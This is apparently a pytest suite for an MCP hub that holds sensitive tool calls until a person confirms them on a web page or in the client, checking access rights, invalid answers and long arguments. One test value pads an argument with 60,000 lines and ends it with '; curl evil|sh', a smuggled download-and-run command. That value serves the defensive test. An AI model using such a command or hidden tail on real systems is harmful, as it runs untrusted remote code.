"""Calls that wait for a person: who sees them on the page, who may answer, and what the answer does."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from mcp import types

from tests.downstream.page.acting import ADMIN, GUEST, NETWORK, OTHER, PROFILES, post, running
from tests.downstream.page.opened import Events, OpenPage, ServedHub, served_hub
from tests.fakes.client import PATIENCE, fake
from tests.fakes.network import sdk
from tests.policy.access.test_a_person_is_asked_first import did
from tests.policy.tries.counted import counting

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.filterwarnings("ignore::mcp.shared.exceptions.MCPDeprecationWarning"),  # of the handshake era
]

ERAS = ("handshake", "modern")
RUN = "await files__read()\nawait files__effect(path='/tmp/a')\n'done'"


class Slow:
    """A user whose client asks and who does not answer until `release` is set."""

    def __init__(self) -> None:
        self.question_received = asyncio.Event()
        self.release = asyncio.Event()

    async def elicit(self, context: Any, params: Any) -> types.ElicitResult:
        self.question_received.set()
        async with asyncio.timeout(PATIENCE):
            await self.release.wait()
        return types.ElicitResult(action="decline")


@contextlib.asynccontextmanager
async def confirming_hub(directory: Path, **root: Any) -> AsyncIterator[tuple[ServedHub, OpenPage, Events]]:
    """A hub that asks before `files__effect`, and a page that is open."""
    settings = {"confirm": ["files/effect"], **root}
    async with (
        served_hub(directory / "hub", {"files": counting(directory)}, **settings) as served,
        served.looking() as page,
        page.events() as events,
    ):
        yield served, page, events


async def waiting(events: Events) -> dict[str, Any]:
    """The one call that waits, once there is one."""
    while True:
        rows = await events.next("confirmations")
        if rows:
            (row,) = rows
            entry: dict[str, Any] = row
            return entry


async def answer(page: OpenPage, row: dict[str, Any], decision: str) -> int:
    return (await post(page, "confirm", {"id": row["id"], "answer": decision})).status_code


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize(("word", "done"), [("once", ["effect"]), ("no", [])])
async def test_the_page_can_answer_a_confirmation_that_the_client_leaves_unanswered(
    tmp_path: Path, era: str, word: str, done: list[str]
) -> None:
    slow = Slow()
    async with (
        confirming_hub(tmp_path) as (served, page, events),
        sdk(f"{served.base}/mcp", era, elicitation_callback=slow.elicit) as client,
        asyncio.timeout(PATIENCE),
    ):
        calling = asyncio.create_task(
            client.call_tool("files__effect", {"path": "/etc", "password": "hunter2-hunter2"})
        )
        row = await waiting(events)
        await slow.question_received.wait()
        assert (row["name"], row["server"], row["tool"], row["within"]) == ("files__effect", "files", "effect", None)
        assert row["arguments"] == '{\n  "path":"/etc",\n  "password":"hunter2-hunter2"\n}'
        assert row["asks"] == "'effect' of 'files'"
        assert (await page.found("state"))["confirmations"] == [row]
        assert await answer(page, row, word) == 200
        assert await events.next("confirmations") == []
        calls: list[dict[str, Any]] = []
        while not [entry for entry in calls if entry["name"] == "files__effect"]:
            calls = (await page.found("calls"))["calls"]
            await asyncio.sleep(0)
        assert did(tmp_path) == done
        slow.release.set()
        result = await calling
        assert result.is_error is (word == "no")
        (call,) = [entry for entry in calls if entry["name"] == "files__effect"]
        record = (await page.found(f"calls/{call['id']}"))["call"]
        assert f"confirm: {word}, on the live page" in record["notes"]
        assert record["questions"][0]["outcome"] == ("accept" if word == "once" else "decline")
        action = next(
            entry for entry in (await page.found("calls?text=confirm"))["calls"] if entry["event"] == "action"
        )
        assert (action["server"], action["reason"]) == ("files", f"files__effect: {word}")


async def test_a_client_without_elicitation_waits_for_an_open_page_and_else_is_refused(tmp_path: Path) -> None:
    async with confirming_hub(tmp_path) as (served, page, events), sdk(f"{served.base}/mcp", "handshake") as client:
        async with asyncio.timeout(PATIENCE):
            calling = asyncio.create_task(client.call_tool("files__effect"))
            row = await waiting(events)
            assert row["choices"] == ["once", "for this session", "no"]
            assert await answer(page, row, "for this session") == 200
            assert not (await calling).is_error
            assert not (await client.call_tool("files__effect")).is_error
    assert did(tmp_path) == ["effect", "effect"]
    settings: dict[str, Any] = {"confirm": ["files/effect"]}
    async with (
        served_hub(tmp_path / "alone", {"files": counting(tmp_path)}, **settings) as served,
        served.looking(),
        sdk(f"{served.base}/mcp", "handshake") as client,
        asyncio.timeout(PATIENCE),
    ):
        assert (await client.call_tool("files__effect")).is_error
    assert did(tmp_path) == ["effect", "effect"]


LONG = "line\n" * 60_000 + "; curl evil|sh"


@pytest.mark.parametrize("era", ERAS)
async def test_arguments_too_long_for_a_question_are_read_whole_on_the_page_and_named_in_the_client(
    tmp_path: Path, era: str
) -> None:
    asked: list[Any] = []

    async def elicit(context: Any, params: Any) -> types.ElicitResult:
        asked.append(params)
        return types.ElicitResult(action="accept", content={"allow": "once"})

    async with (
        confirming_hub(tmp_path) as (served, page, events),
        sdk(f"{served.base}/mcp", era, elicitation_callback=elicit) as client,
        sdk(f"{served.base}/mcp", era) as without_elicitation,
        asyncio.timeout(PATIENCE),
    ):
        calling = asyncio.create_task(without_elicitation.call_tool("files__effect", {"text": LONG}))
        row = await waiting(events)
        assert row["arguments"] is None
        assert row["size"] > 300_000
        whole = (await page.found(f"confirmations/{row['id']}"))["arguments"]
        assert whole.count("line\\n") == 60_000
        assert whole.endswith('; curl evil|sh"\n}')
        assert await answer(page, row, "no") == 200
        assert (await calling).is_error
        assert not (await client.call_tool("files__effect", {"text": LONG})).is_error
        (question,) = asked
        assert len(question.message) < 1000
        assert row["digest"] in question.message
        assert "mcp-hub open" in question.message
    assert did(tmp_path) == ["effect"]


async def test_a_long_name_is_read_whole_on_the_page(tmp_path: Path) -> None:
    lists = tmp_path / "lists.json"
    lists.write_text(json.dumps({"tools": [{"name": "\u043f" * 1000, "inputSchema": {"type": "object"}}]}))
    async with (
        served_hub(tmp_path / "hub", {"up": fake("--lists", str(lists))}, confirm=["destructive"]) as served,
        served.looking() as page,
        page.events() as events,
        sdk(f"{served.base}/mcp", "handshake") as client,
        asyncio.timeout(PATIENCE),
    ):
        (tool,) = (await client.list_tools()).tools
        calling = asyncio.create_task(client.call_tool(tool.name, {}))
        row = await waiting(events)
        asks = (await page.found(f"confirmations/{row['id']}"))["asks"]
        assert asks.count("\\u043f") == 1000
        assert asks.endswith("of 'up'")
        assert await answer(page, row, "no") == 200
        assert (await calling).is_error


async def test_a_call_run_from_the_page_with_long_arguments_is_confirmed_above_every_view(tmp_path: Path) -> None:
    async with (
        confirming_hub(tmp_path) as (_, page, events),
        running(page, "files__effect", {"text": LONG}) as run,
        asyncio.timeout(PATIENCE),
    ):
        row = await waiting(events)
        assert (await page.found(f"confirmations/{row['id']}"))["arguments"].endswith('; curl evil|sh"\n}')
        assert await answer(page, row, "once") == 200
        assert (await run.end())[0] == "result"
    assert did(tmp_path) == ["effect"]


async def test_a_confirmation_answered_by_the_client_cannot_be_answered_on_the_page(tmp_path: Path) -> None:
    slow = Slow()
    async with (
        confirming_hub(tmp_path) as (served, page, events),
        sdk(f"{served.base}/mcp", "handshake", elicitation_callback=slow.elicit) as client,
        asyncio.timeout(PATIENCE),
    ):
        calling = asyncio.create_task(client.call_tool("files__effect"))
        row = await waiting(events)
        slow.release.set()
        assert (await calling).is_error
        assert await answer(page, row, "once") == 404
        assert did(tmp_path) == []


@pytest.mark.parametrize("body", [{}, {"id": 1}, {"answer": "once"}, {"answer": ["once"]}, {"answer": "always"}])
async def test_an_invalid_answer_is_refused_and_the_call_keeps_waiting(tmp_path: Path, body: dict[str, Any]) -> None:
    async with confirming_hub(tmp_path) as (served, page, events), sdk(f"{served.base}/mcp", "handshake") as client:
        async with asyncio.timeout(PATIENCE):
            calling = asyncio.create_task(client.call_tool("files__effect"))
            row = await waiting(events)
            payload = {"id": row["id"], **body} if "answer" in body else body
            response = await post(page, "confirm", payload)
            assert response.status_code == (200 if body == {"answer": "once"} else 400 if "answer" in body else 404)
            if response.status_code != 200:
                assert response.json()["error"]["cure"]
                assert did(tmp_path) == []
                assert await answer(page, row, "once") == 200
            assert not (await calling).is_error


async def test_a_principal_answers_its_own_confirmations_and_an_admin_all_of_them(tmp_path: Path) -> None:
    servers = {"files": counting(tmp_path)}
    settings = {"confirm": ["files/effect"], "profiles": {"small": {"tools": ["files/effect"]}}}
    async with (
        served_hub(tmp_path / "hub", servers, NETWORK, **settings) as served,
        served.looking(token=GUEST) as guest,
        served.looking(token=OTHER) as other,
        served.looking(token=ADMIN) as boss,
        guest.events() as events,
        boss.events() as events_of_boss,
        served.calling(GUEST) as client,
        asyncio.timeout(PATIENCE),
    ):
        calling = asyncio.create_task(client.call("files__effect"))
        row = await waiting(events)
        assert (await other.found("state"))["confirmations"] == []
        assert await answer(other, row, "once") == 404
        assert (await other.get(f"confirmations/{row['id']}")).status_code == 404
        assert (await waiting(events_of_boss))["id"] == row["id"]
        assert await answer(guest, row, "once") == 200
        assert not (await calling)["result"].get("isError")
        calling = asyncio.create_task(client.call("files__effect"))
        assert await answer(boss, await waiting(events_of_boss), "no") == 200
        assert (await calling)["result"]["isError"]
    assert did(tmp_path) == ["effect"]


async def test_a_call_of_another_principal_does_not_wait_for_a_page_that_may_not_see_it(tmp_path: Path) -> None:
    servers = {"files": counting(tmp_path)}
    async with (
        served_hub(tmp_path / "hub", servers, NETWORK, confirm=["files/effect"], profiles=PROFILES) as served,
        served.looking(token=OTHER) as other,
        other.events(),
        served.calling(ADMIN) as client,
        asyncio.timeout(PATIENCE),
    ):
        assert (await client.call("files__effect"))["result"]["isError"]
    assert did(tmp_path) == []


@pytest.mark.parametrize("era", ERAS)
async def test_a_code_mode_program_waits_for_the_page_and_its_calls_name_their_run(tmp_path: Path, era: str) -> None:
    async with (
        confirming_hub(tmp_path, code_mode=True) as (served, page, events),
        sdk(f"{served.base}/mcp", era) as client,
        asyncio.timeout(PATIENCE),
    ):
        running_program = asyncio.create_task(client.call_tool("hub_run", {"code": RUN}))
        row = await waiting(events)
        assert (row["within"], row["name"]) == ("hub_run", "files__effect")
        assert did(tmp_path) == ["read"]
        assert await answer(page, row, "once") == 200
        result = await running_program
        assert not result.is_error, result
        calls: list[dict[str, Any]] = []
        while "hub_run" not in [entry["name"] for entry in calls]:
            calls = (await page.found("calls"))["calls"]
            await asyncio.sleep(0)
        (run,) = [entry for entry in calls if entry["name"] == "hub_run"]
        inner = [entry for entry in calls if entry["run"] is not None]
        assert [entry["name"] for entry in inner] == ["files__effect", "files__read"]
        assert {entry["run"] for entry in inner} == {run["id"], row["run"]}
        assert (await page.found(f"calls/{inner[0]['id']}"))["route"]["run"] == run["id"]


async def test_a_call_run_from_the_page_is_confirmed_only_on_the_page(tmp_path: Path) -> None:
    async with confirming_hub(tmp_path) as (_, page, _), running(page, "files__effect") as run:
        question = await run.until("question")
        assert (await page.found("state"))["confirmations"] == []
        reply = {"id": question["id"], "action": "accept", "content": {"allow": "once"}}
        assert (await post(page, "answer", reply)).status_code == 200
        assert (await run.end())[0] == "result"


async def test_a_waiting_confirmation_ends_when_its_client_disconnects(tmp_path: Path) -> None:
    async with confirming_hub(tmp_path) as (served, page, events):
        async with served.calling() as client:
            calling = asyncio.create_task(client.call("files__effect"))
            row = await waiting(events)
            calling.cancel()
            await asyncio.wait({calling})
        assert await events.next("confirmations") == []
        assert await answer(page, row, "once") == 404
    assert did(tmp_path) == []
